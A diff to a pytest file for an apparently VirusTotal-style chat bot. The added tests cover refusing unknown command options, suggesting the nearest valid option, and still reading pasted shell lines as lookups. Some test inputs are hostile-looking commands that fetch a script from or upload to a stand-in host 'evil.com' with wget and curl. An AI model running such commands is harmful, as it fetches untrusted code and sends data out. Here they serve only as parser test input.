@@ -194,6 +194,17 @@ def test_any_text_is_understood_or_said_to_be_wrong(line):
         ("--foo bar 192.0.2.1 8.8.8.8", "--foo", ""),
         ("scan-ip 192.0.2.1 --treshold 3", "--treshold", "--threshold"),
         ("scan-url http://a.example/ --verbose", "--verbose", ""),
+        ("check 192.0.2.1 --verbose", "--verbose", ""),
+        ("please look at 192.0.2.1 and 198.51.100.7 --format json", "--format", ""),
+        ("is 192.0.2.1 bad? --thresh 3", "--thresh", "--threshold"),
+        ("what is evil.com --resc", "--resc", "--rescan-after-days"),
+        ("scan-ip 192.0.2.1 -t 3", "-t", ""),
+        ("scan-file /srv/a.bin -v", "-v", ""),
+        ("192.0.2.1 -v", "-v", ""),
+        ("192.0.2.1 --share=no", "--share=no", "--share"),
+        ("scan-ip 192.0.2.1 --share --share-with ana", "--share-with", "--share"),
+        ("form 192.0.2.1 --verbose", "--verbose", ""),
+        ("domain-report <@U123ABC> --fast", "--fast", ""),
     ],
 )
 def test_an_option_that_does_not_exist_is_refused_in_any_line(line, option, nearest):
@@ -207,13 +218,31 @@ def test_an_option_that_does_not_exist_is_refused_in_any_line(line, option, near
 
 
 @pytest.mark.parametrize(
+    "command", ["help", "quota", "ping", "settings", "watch", "watch on", "ignore", "ignore list"]
+)
+@pytest.mark.parametrize("option", ["--verbose", "--threshold 3", "-v", "\u2014all"])
+def test_commands_without_options_refuse_every_one(command, option):
+    """Nothing is dropped in silence after a subcommand either, nor taken for a reason or a value."""
+    with pytest.raises(UnknownOption) as caught:
+        parse(f"{command} {option}", {})
+    said = text.usage_error(caught.value)
+    assert said.startswith(f"/vt {command.split()[0]} takes no options: leave out -"), said
+
+
+@pytest.mark.parametrize(
     "line",
     [
         "curl --silent -o x http://evil.com/a",
         "iptables -A INPUT -s 192.0.2.1 --dport 80 -j DROP",
         "seen in the log: -- 192.0.2.1 --",
+        "wget --no-check-certificate --quiet http://evil.com/a.sh",
+        "/usr/bin/curl --insecure http://evil.com/a",
+        "msg: `tool --force http://evil.com/a`",
+        "Nov 27 11:00:01 host\nexec tool --upload http://evil.com/a",
+        "form curl --silent http://evil.com/a",
     ],
 )
 def test_a_pasted_command_line_is_still_read(line):
     """Its options are not meant for the bot, and none of them is nearly one of ours."""
-    assert len(parse(line, {}).lookups) == 1
+    found = parse(line, {})
+    assert found.verb is Verb.FORM or len(found.lookups) == 1
